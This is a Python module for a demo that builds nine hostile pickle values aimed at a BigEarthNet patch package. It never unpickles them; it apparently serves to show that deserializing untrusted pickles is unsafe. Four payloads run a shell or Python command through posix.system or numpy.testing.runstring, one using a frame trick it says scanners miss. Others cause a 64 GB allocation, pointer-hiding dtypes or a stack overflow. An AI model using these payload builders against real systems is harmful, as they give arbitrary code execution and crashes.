"""The nine hostile values of the demo, built opcode by opcode. Unpickling any of four of them would create a file.

This module only makes bytes. It never unpickles a value. ``pickletools.dis`` shows the effect of each opcode.
"""

from __future__ import annotations

import shlex
import struct
from typing import NamedTuple

_PROTO = b"\x80\x04"


class Attack(NamedTuple):
    """One hostile value: a description of its content, the effect of unpickling it, and its bytes."""

    holds: str
    would: str
    value: bytes


def attacks(honest: bytes, canary: str) -> tuple[Attack, ...]:
    """Build the attacks.

    Args:
        honest: A canonical value.
        canary: Path of the file that the first four of them would create.

    Returns:
        The attacks. Each is of a different kind.
    """
    command = f"touch {shlex.quote(canary)}"
    shell = _call("posix", "system", _text(command)) + b"."
    python = _call("numpy.testing", "runstring", _text(f"__import__('os').system({command!r})") + b"}") + b"."
    return (
        Attack("a shell command", "run it as you", _PROTO + shell),
        Attack("Python code via numpy's tests", "run it as you", _PROTO + python),
        Attack("a program in a false frame", "run it; scanners miss it", _hidden(shell)),
        Attack("a second pickle after a patch", "run it if read on", honest + _PROTO + shell),
        Attack("a band of 64 GB", "ask for 64 GB", _s1_patch(_band(_array(b"\x8a\x05\0\0\0\0\x10\x85")))),
        Attack("a dtype that hides pointers", "crash on first use", _s1_patch(_band(_pointers()))),
        Attack("memo entry 268,435,455", "take 4 GB for 9 bytes", _PROTO + b"Nr\xff\xff\xff\x0f."),
        Attack("300,000 nested tuples as key", "overflow the C stack", _PROTO + b"})" + b"\x85" * 300_000 + b"Ns."),
        Attack("a text in place of a band", "return it as a patch", _s1_patch(_text("not a band"))),
    )


def _text(text: str) -> bytes:
    data = text.encode("utf-8", "surrogatepass")  # as pickle does; a path need not be UTF-8
    return b"X" + struct.pack("<I", len(data)) + data


def _global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + b"\x93"


def _call(module: str, name: str, arguments: bytes) -> bytes:
    return _global(module, name) + b"(" + arguments + b"tR"


def _dict(**items: bytes) -> bytes:
    return b"}(" + b"".join(_text(name) + value for name, value in items.items()) + b"u"


def _s1_patch(vh: bytes) -> bytes:
    """Make a patch of the original package with this VH."""
    cls = _global("bigearthnet_patch_interface.s1_interface", "BigEarthNet_S1_Patch")
    return _PROTO + cls + b")\x81" + _dict(bandVH=vh) + b"b."


def _band(pixels: bytes) -> bytes:
    """Make a band of the original package (pydantic 1) with these pixels."""
    fields = {"name": _text("VH"), "spatial_resolution": b"K\x0a", "data_shape": b"KxKx\x86", "data": pixels}
    field_set = b"\x8f(" + b"".join(map(_text, fields)) + b"\x90"
    state = _dict(__dict__=_dict(**fields), __fields_set__=field_set, __private_attribute_values__=b"}")
    return _global("bigearthnet_patch_interface.band_interface", "BenS1_Band") + b")\x81" + state + b"b"


def _array(shape: bytes) -> bytes:
    """Make the empty array with which numpy's pickles begin."""
    return _call("numpy.core.multiarray", "_reconstruct", _global("numpy", "ndarray") + shape + b"C\x01b")


def _dtype(code: str, state: bytes) -> bytes:
    return _call("numpy", "dtype", _text(code) + b"\x89\x88") + b"(" + state + b"tb"


def _pointers() -> bytes:
    """Make a band with a dtype that hides an object field: numpy uses its bytes as addresses of objects."""
    objects = _dtype("O8", b"K\x03" + _text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3f")
    fields = b"}" + _text("f") + objects + b"K\0\x86s"
    hidden = _dtype("V8", b"K\x03" + _text("|") + b"N" + _text("f") + b"\x85" + fields + b"K\x08K\x01K\0")
    addresses = b"A" * (8 * 120 * 120)
    state = b"K\x01KxKx\x86" + hidden + b"\x89B" + struct.pack("<I", len(addresses)) + addresses
    return _array(b"K\0\x85") + b"(" + state + b"tb"


def _hidden(program: bytes) -> bytes:
    """Make a frame that ends inside a string.

    Read opcode by opcode, this is a string of seven characters, then bytes. CPython's unpickler drops the rest of the
    frame when it reads across its end from a BytesIO. It continues five bytes later than expected, and runs those
    bytes.
    """
    frame = b"X\x07\0\0\0abcde"
    # Its length becomes a part of the string and must be UTF-8. Nothing runs after the first STOP.
    program = program.ljust(len(program) // 256 * 256 + 256, b".")
    return (
        _PROTO
        + b"\x95"
        + struct.pack("<Q", len(frame))
        + frame
        + b"fgB"
        + struct.pack("<I", len(program))
        + program
        + b"\x86."
    )
